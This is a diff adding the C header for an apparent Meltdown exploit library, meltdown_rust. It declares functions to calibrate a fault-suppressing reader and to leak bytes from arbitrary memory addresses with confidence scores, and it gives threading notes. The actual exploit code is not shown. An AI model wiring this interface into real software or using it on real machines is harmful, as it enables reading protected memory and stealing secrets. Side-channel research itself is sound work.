@@ -0,0 +1,48 @@
+/*
+ * The C interface to meltdown_rust. Link against the cdylib that
+ * `cargo build --release` leaves in target/release/libmeltdown_rust.so.
+ *
+ * A reader is calibrated for the core it was created on, so pin the thread
+ * that creates it and the threads that read with it to the same core. A
+ * reader must not be used from two threads at once.
+ */
+
+#ifndef MELTDOWN_H
+#define MELTDOWN_H
+
+#include <stddef.h>
+#include <stdint.h>
+#include <sys/types.h>
+
+#ifdef __cplusplus
+extern "C" {
+#endif
+
+/* The confidence meltdown_read gives a byte that didn't leak. */
+#define MELTDOWN_NOT_LEAKED 0xff
+
+typedef struct meltdown_reader meltdown_reader;
+
+/*
+ * Creates a reader with the best fault suppression this CPU supports, and
+ * calibrates it. Returns NULL and sets errno if it can't be created.
+ */
+meltdown_reader *meltdown_init(void);
+
+/*
+ * Leaks len bytes from addr into values, and the confidence in each, in
+ * percent, into confidence unless it is NULL. Bytes that didn't leak are 0,
+ * with a confidence of MELTDOWN_NOT_LEAKED. Returns how many bytes leaked,
+ * or -1 with errno set to EINVAL if reader or values is NULL.
+ */
+ssize_t meltdown_read(const meltdown_reader *reader, uintptr_t addr, size_t len,
+                      uint8_t *values, uint8_t *confidence);
+
+/* Frees a reader meltdown_init created. Does nothing if reader is NULL. */
+void meltdown_free(meltdown_reader *reader);
+
+#ifdef __cplusplus
+}
+#endif
+
+#endif